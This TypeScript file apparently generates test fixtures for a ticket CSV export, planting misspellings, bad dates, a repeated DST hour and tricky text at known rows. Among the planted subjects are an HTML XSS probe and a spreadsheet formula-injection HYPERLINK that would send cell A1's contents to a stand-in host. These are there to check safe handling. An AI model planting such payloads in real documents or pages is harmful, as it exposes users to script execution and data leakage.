/** The awkward things that real exports have, each at a known place. */
import type { Cell } from './csv.ts'

export interface Oddity {
  readonly what: string
  readonly ticket_id: string
  readonly column: string
  readonly value: string
}

const CLIENT = 1
const CREATED = 2
const SUBJECT = 3
const RAISED_BY = 21
const RESOLVED = 15

type Rows = readonly Cell[][]

/** Spellings of a client's name; the first is joined by aliases.csv, the second is left as a question. */
export const MISSPELT = [
  { name: 'Norwel Packaging', client: 'Norwell Packaging', joined: true },
  { name: 'Hollins Logistic', client: 'Hollins Logistics', joined: false },
] as const

/** Changes some rows in place and says which. Rows are in the order of creation. */
export function plantOddities(rows: Rows): readonly Oddity[] {
  const planted: Oddity[] = []
  const put = (row: Cell[] | undefined, index: number, column: string, value: string, what: string) => {
    if (!row) return
    row[index] = value
    planted.push({ what, ticket_id: String(row[0]), column, value })
  }
  const by_client = (name: string, raised_by = 'client') => rows.filter((row) => row[CLIENT] === name && row[RAISED_BY] === raised_by)
  const third = (list: Rows, part: number) => list[Math.floor(list.length * part)]

  const ordinary = rows.filter((row) => row[RAISED_BY] === 'client')
  put(third(ordinary, 0.97), SUBJECT, 'subject', '<img src=x onerror=alert(1)>', 'markup as a subject: it is text')
  put(third(ordinary, 0.94), SUBJECT, 'subject', '=HYPERLINK("http://example.invalid/?"&A1,"open me")', 'a formula as a subject: a spreadsheet must not run it')
  put(third(ordinary, 0.91), SUBJECT, 'subject', 'Said "urgent, please", then: ünïcødé, 株式会社, Ελληνικά – and a comma', 'quotes, commas and scripts in a subject')
  for (const { name, client, joined } of MISSPELT) {
    const own = by_client(client)
    for (const part of [0.35, 0.7, 0.88]) put(third(own, part), CLIENT, 'client', name, joined ? 'a spelling that aliases.csv joins' : 'a spelling that nothing joins')
  }
  const spaced = third(by_client('Westerby Housing'), 0.6)
  put(spaced, CLIENT, 'client', '  WESTERBY  Housing ', 'the same name with other spaces and capitals')
  const solved = ordinary.filter((row) => row[RESOLVED] !== null && row[CLIENT] === 'Dunmore Foods')
  for (const part of [0.4, 0.8]) {
    const row = third(solved, part)
    put(row, RESOLVED, 'resolved_at', `2023${String(row?.[RESOLVED]).slice(4)}`, 'resolved before it was created: cannot be judged')
  }
  const night = rows.find((row) => String(row[CREATED]) > '2025-10-26 02' && String(row[CREATED]) < '2025-10-27 07')
  put(night, CREATED, 'created_at', '2025-10-26 01:30:00', 'an hour that came twice; no opening hours are touched')
  return planted
}
